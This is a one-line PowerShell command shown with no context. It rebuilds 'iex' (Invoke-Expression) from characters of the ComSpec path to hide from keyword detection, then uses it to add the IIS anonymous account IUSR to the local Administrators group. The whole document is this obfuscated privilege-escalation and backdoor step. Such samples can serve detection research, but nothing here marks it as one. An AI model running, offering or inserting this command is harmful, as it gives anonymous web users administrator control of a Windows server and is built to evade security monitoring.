& ($env:ComSpec[4,15,25] -join '') 'Add-LocalGroupMember -Group Administrators -Member IUSR'
